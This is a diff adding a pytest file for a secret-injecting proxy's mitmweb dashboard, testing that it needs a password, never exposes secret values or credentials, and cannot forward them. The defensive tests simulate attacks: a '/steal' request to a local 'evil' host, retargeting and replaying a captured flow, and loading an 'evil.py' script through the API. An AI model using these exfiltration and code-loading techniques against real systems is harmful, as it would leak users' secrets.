@@ -1,0 +1,162 @@
+"""The dashboard: a separate mitmweb process fed redacted copies of finished flows. Polled
+hard while slow flows carrying placeholders go through, its API and websocket never show a
+value or a session credential; and nothing done in it can send a value anywhere."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import socket
+import threading
+import time
+
+import pytest
+import requests
+
+from conftest import curl, make_proxy
+from upstream import RawUpstream, header, raw_response
+
+
+def slow_echo(head: bytes, body: bytes, sock) -> bytes:
+    time.sleep(1.5)
+    return raw_response(b"you sent " + header(head, b"x-key") + b" " + body)
+
+
+@pytest.fixture(scope="module")
+def dash(tmp_path_factory, pki):
+    p = make_proxy(tmp_path_factory.mktemp("dash"), pki)
+    p.start(web=True)
+    yield p
+    p.stop()
+
+
+class Dashboard:
+    def __init__(self, p) -> None:
+        self.base = f"http://127.0.0.1:{p.env['SEALGATE_WEB_PORT']}"
+        self.password = p.env["SEALGATE_WEB_PASSWORD"]
+        self.http = requests.Session()
+        self.http.trust_env = False
+        self.http.headers["Authorization"] = f"Bearer {self.password}"
+        self.http.get(self.base + "/updates", timeout=5)  # sets the XSRF cookie that writes need, as the UI's does
+        self.http.headers["X-XSRFToken"] = self.http.cookies.get("_mitmproxy_xsrf", "")
+
+    def get(self, path: str) -> requests.Response:
+        return self.http.get(self.base + path, timeout=5)
+
+    def flows(self) -> list[dict]:
+        return self.get("/flows").json()
+
+    def websocket(self, seconds: float) -> bytes:
+        """Everything the dashboard's /updates websocket pushes in that time."""
+        sock = socket.create_connection(("127.0.0.1", int(self.base.rsplit(":", 1)[1])), timeout=seconds + 2)
+        key = base64.b64encode(os.urandom(16)).decode()
+        sock.sendall(f"GET /updates HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+                     f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
+                     f"Authorization: Bearer {self.password}\r\n\r\n".encode())
+        sock.settimeout(0.2)
+        out, end = b"", time.time() + seconds
+        while time.time() < end:
+            try:
+                chunk = sock.recv(65536)
+                if not chunk:
+                    break
+                out += chunk
+            except TimeoutError:
+                pass
+        sock.close()
+        assert out.startswith(b"HTTP/1.1 101"), out[:200]
+        return out
+
+
+def test_dashboard_needs_its_password(dash):
+    base = f"http://127.0.0.1:{dash.env['SEALGATE_WEB_PORT']}"
+    assert requests.get(base + "/flows", timeout=5).status_code == 403
+    assert requests.get(base + "/flows", headers={"Authorization": "Bearer wrong"}, timeout=5).status_code == 403
+    assert dash.env["SEALGATE_WEB_PASSWORD"] not in (dash.data_dir / "sealgate.db").read_bytes().decode("latin-1")
+
+
+def test_polling_the_dashboard_never_shows_a_value_or_credential(dash, pki, user, value):
+    api = RawUpstream(pki, slow_echo)
+    evil = RawUpstream(pki, slow_echo, host="127.0.0.2")
+    dash.add_secret(user, "K", value, api.origin)
+    s = dash.issue(user=user, runchat="rc-dash")
+    ph = s["env"]["K"]
+    credential = s["proxy_url"].split("@")[0].rsplit(":", 1)[1]
+    board = Dashboard(dash)
+    seen: list[bytes] = []
+    stop = threading.Event()
+
+    def poll() -> None:
+        while not stop.is_set():
+            listing = board.get("/flows")
+            assert listing.status_code == 200, listing.status_code
+            seen.append(listing.content)
+            seen.append(board.get("/flows/dump").content)
+            for f in listing.json():
+                for part in ("request", "response"):
+                    seen.append(board.get(f"/flows/{f['id']}/{part}/content.data").content)
+            time.sleep(0.03)
+
+    pollers = [threading.Thread(target=poll) for _ in range(2)]
+    ws_out: list[bytes] = []
+    ws = threading.Thread(target=lambda: ws_out.append(board.websocket(6)))
+    for t in [*pollers, ws]:
+        t.start()
+    results = []
+    workers = [
+        threading.Thread(target=lambda: results.append(curl(s, api.origin + f"/q?key={ph}", "-H", f"X-Key: {ph}",
+                                                            "--data-binary", f'{{"k": "{ph}"}}',
+                                                            "-H", "Content-Type: application/json"))),
+        threading.Thread(target=lambda: results.append(curl(s, evil.origin + "/steal", "-H", f"X-Key: {ph}"))),
+    ]
+    for t in workers:
+        t.start()
+    for t in workers:
+        t.join()
+    time.sleep(1)
+    stop.set()
+    for t in [*pollers, ws]:
+        t.join()
+    assert sorted(r.status for r in results) == [200, 403]
+    assert any(value.encode() in h + b"\r\n\r\n" + b for h, b in api.received)  # the value did go out
+    everything = b"".join(seen) + b"".join(ws_out)
+    assert len(seen) > 40, "the dashboard was not polled many times"
+    assert value.encode() not in everything and credential.encode() not in everything
+    flows = {f["request"]["host"]: f for f in board.flows() if f["type"] == "http"}
+    shown = flows[api.host]
+    assert ph in shown["request"]["path"] and shown["response"]["status_code"] == 200
+    assert board.get(f"/flows/{shown['id']}/request/content.data").content == f'{{"k": "{ph}"}}'.encode()
+    blocked = flows[evil.host]
+    assert blocked["comment"].startswith("origin_not_allowed: K may not go to") and blocked["marked"]
+    dump = board.get("/flows/dump").content
+    assert b"rc-dash" in dump and user.encode() in dump  # principal and runchat, for operators
+
+
+def test_nothing_done_in_the_dashboard_sends_a_value_anywhere(dash, pki, user, value):
+    api = RawUpstream(pki, lambda head, body, sock: raw_response(b"ok"))
+    evil = RawUpstream(pki, lambda head, body, sock: raw_response(b"got it"), host="127.0.0.2")
+    dash.add_secret(user, "K", value, api.origin)
+    s = dash.issue(user=user)
+    board = Dashboard(dash)
+    assert board.http.put(board.base + "/options", json={"intercept": "~q"}, timeout=5).status_code == 200
+    r = curl(s, api.origin + "/x", "-H", f"X-Key: {s['env']['K']}")  # not paused: the dashboard sees only copies
+    assert r.status == 200 and header(api.received[-1][0], b"x-key") == value.encode()
+    time.sleep(0.5)
+    flow = next(f for f in board.flows() if f["request"]["host"] == api.host)
+    edit = {"request": {"host": evil.host, "port": evil.port}}
+    board.http.put(f"{board.base}/flows/{flow['id']}", json=edit, timeout=5)
+    for action in ("resume", "replay", "duplicate"):
+        board.http.post(f"{board.base}/flows/{flow['id']}/{action}", timeout=5)
+    time.sleep(1.5)
+    assert evil.received == [] and len(api.received) == 1
+    script = dash.dir / "evil.py"
+    marker = dash.dir / "evil-ran"
+    script.write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
+    board.http.put(board.base + "/options", json={"scripts": [str(script)]}, timeout=5)
+    board.http.post(board.base + "/commands/script.run", json={"arguments": [flow["id"], str(script)]}, timeout=5)
+    board.http.put(board.base + "/options", json={"server": True, "mode": ["regular@127.0.0.1:0"]}, timeout=5)
+    time.sleep(0.5)
+    assert not marker.exists()  # no code loaded through the API
+    assert board.get("/options").json()["server"]["value"] is False  # no proxy opened: rolled back
+    assert value.encode() not in board.get("/flows/dump").content
